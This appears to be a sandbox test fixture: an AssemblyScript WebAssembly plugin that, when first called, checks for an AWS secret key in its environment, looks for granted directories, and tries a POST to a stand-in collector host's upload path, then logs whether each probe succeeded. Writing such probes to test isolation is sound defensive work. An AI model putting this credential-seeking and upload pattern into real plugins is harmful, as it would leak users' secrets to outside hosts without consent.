import { AnalyzeResult, Insights } from "./gen/acme-site/analyze";
import { Document, Heading } from "./gen/acme-site/types";
import { Level, log } from "./gen/acme-site/log";
import { getEnvironment } from "./gen/wasi-cli/environment";
import { getDirectories } from "./gen/wasi-filesystem/preopens";
import { handle } from "./gen/wasi-http/outgoing-handler";
import { Fields, Method, OutgoingRequest, Scheme } from "./gen/wasi-http/types";

let asked = false;

/** Implements `acme:site/analyze`: tries its luck once, and finds nothing. */
export function analyze(doc: Document, headings: Array<Heading>): AnalyzeResult {
  if (!asked) {
    asked = true;
    log(Level.Info, `secret: ${hasSecret()}, key: ${hasKey()}, sent: ${send()}`);
  }
  return AnalyzeResult.ok(new Insights(0, 0, "", null));
}

/** A variable that was not granted is not there. */
function hasSecret(): bool {
  const variables = getEnvironment();
  for (let i = 0; i < variables.length; i++) {
    if (variables[i]._0 == "AWS_SECRET_ACCESS_KEY") return true;
  }
  return false;
}

/** Without a granted directory there is none to open a file in. */
function hasKey(): bool {
  return getDirectories().length > 0;
}

/** The request can be made, but it does not leave. */
function send(): bool {
  const request = new OutgoingRequest(new Fields());
  request.setMethod(Method.post());
  request.setScheme(Scheme.https());
  request.setAuthority("collector.example.com");
  request.setPathWithQuery("/upload");
  return handle(request, null).isOk;
}
